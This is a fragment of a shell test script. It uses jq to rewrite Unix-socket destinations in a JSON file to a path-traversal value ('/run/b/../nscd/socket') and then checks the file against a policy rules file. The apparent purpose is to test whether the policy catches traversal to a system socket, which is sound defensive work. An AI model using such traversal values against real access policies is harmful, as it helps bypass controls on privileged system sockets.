		if .dst | startswith("unix:") then .dst = "unix:/run/b/../nscd/socket" else . end' "$P/clean.json" > v.json
	gh-policy -q u.rules v.json
}
